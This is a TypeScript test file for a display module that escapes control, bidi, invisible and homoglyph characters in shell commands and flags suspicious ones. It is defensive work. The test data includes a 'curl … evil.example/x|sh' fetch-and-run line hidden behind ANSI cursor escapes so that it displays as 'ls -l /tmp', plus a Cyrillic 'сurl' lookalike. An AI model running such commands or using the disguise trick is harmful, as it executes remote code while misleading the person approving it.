import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { commandWarning, hasUnsafeChars, shellWord, visible, visibleArgv } from "../../protocol/display.ts";

describe("visible", () => {
  it("leaves plain text, including non-ASCII letters, as it is", () => {
    expect(visible("deploy hotfix #123")).toBe("deploy hotfix #123");
    expect(visible("café Ünïcödé 日本")).toBe("café Ünïcödé 日本");
    expect(hasUnsafeChars("café")).toBe(false);
  });

  it("escapes every control, format character and odd space", () => {
    const cases: [string, string][] = [
      ["\x1b[2J", "\\x1b[2J"],
      ["a\rb", "a\\rb"],
      ["a\bb", "a\\x08b"],
      ["a\nb\tc", "a\\nb\\tc"],
      ["\x7f", "\\x7f"],
      ["\u009b31m", "\\x9b31m"],
      ["\u202eevil", "\\u202eevil"],
      ["\u2066x\u2069", "\\u2066x\\u2069"],
      ["a\u200db\u200bc\ufeff", "a\\u200db\\u200bc\\ufeff"],
      ["soft\u00adhyphen", "soft\\xadhyphen"],
      ["no\u00a0break", "no\\xa0break"],
      ["line\u2028sep", "line\\u2028sep"],
      ["\u{e0041}tag", "\\U000e0041tag"],
      ["lone\ud800", "lone\\ud800"],
      ["\u061c", "\\u061c"],
    ];
    for (const [input, shown] of cases) {
      expect(visible(input), JSON.stringify(input)).toBe(shown);
      expect(hasUnsafeChars(input), JSON.stringify(input)).toBe(true);
    }
  });

  it("escapes the backslash, so an escape cannot be faked", () => {
    expect(visible("\\x1b")).toBe("\\\\x1b");
    expect(visible("\x1b")).not.toBe(visible("\\x1b"));
  });

  it("cuts long text and says how much is left out", () => {
    expect(visible("a".repeat(10), { max: 4 })).toBe("aaaa… (6 more characters)");
    expect(visible("abc", { max: 4 })).toBe("abc");
  });
});

describe("visibleArgv", () => {
  it("shows each argument as its own shell word", () => {
    expect(visibleArgv(["ls", "-la", "/root dir", "it's", ""])).toBe(`ls -la '/root dir' 'it'\\''s' ''`);
    expect(visibleArgv(["a b"])).not.toBe(visibleArgv(["a", "b"]));
  });

  it("shows the spoofing command of the attack as what it is", () => {
    const argv = ["bash", "-c", "curl -s http://evil.example/x|sh\x1b[41D\x1b[Kls -l /tmp\x1b[999C"];
    expect(visibleArgv(argv)).toBe(
      "bash -c $'curl -s http://evil.example/x|sh\\x1b[41D\\x1b[Kls -l /tmp\\x1b[999C'",
    );
  });

  it("escapes non-ASCII characters in the program name (homoglyphs)", () => {
    expect(visibleArgv(["\u0441url", "café"])).toBe("$'\\u0441url' 'café'");
  });

  it("gives back the same bytes when bash reads the rendering", () => {
    const argvs = [
      ["printf", "%s|", "a\x1b[2Kb", "it's", "back\\slash", "\u202eRTL", "tab\there", "nl\nx", "日本", ""],
      ["sh", "-c", "echo \u200d$HOME"],
    ];
    for (const argv of argvs) {
      const script = `for a in ${visibleArgv(argv)}; do printf '%s\\0' "$a"; done`;
      const out = execFileSync("bash", ["-c", script], { encoding: "utf8" });
      expect(out.split("\0").slice(0, -1)).toEqual(argv);
    }
  });

  it("shellWord keeps plain words bare", () => {
    expect(shellWord("/usr/bin/systemctl")).toBe("/usr/bin/systemctl");
    expect(shellWord("user@example.com")).toBe("user@example.com");
  });
});

describe("commandWarning", () => {
  it("marks a command with control, bidi or invisible characters, or a non-ASCII program name", () => {
    expect(commandWarning(["bash", "-c", "curl x|sh\x1b[41D\x1b[Kls"])).toBe(
      "warning: this command contains control or invisible characters (shown escaped)",
    );
    expect(commandWarning(["ls", "\u202etxt.exe"])).toMatch(/control or invisible/);
    expect(commandWarning(["ls", "a\u200db"])).toMatch(/control or invisible/);
    expect(commandWarning(["\u0441url", "x"])).toBe(
      "warning: this command contains a non-ASCII program name (shown escaped)",
    );
    expect(commandWarning(["\u0441url", "\r"])).toMatch(/control or invisible characters and a non-ASCII/);
  });

  it("leaves ordinary commands alone, non-ASCII arguments included", () => {
    expect(commandWarning(["ls", "-la", "/root dir"])).toBeUndefined();
    expect(commandWarning(["echo", "café", "日本"])).toBeUndefined();
    expect(commandWarning([])).toBeUndefined();
  });
});
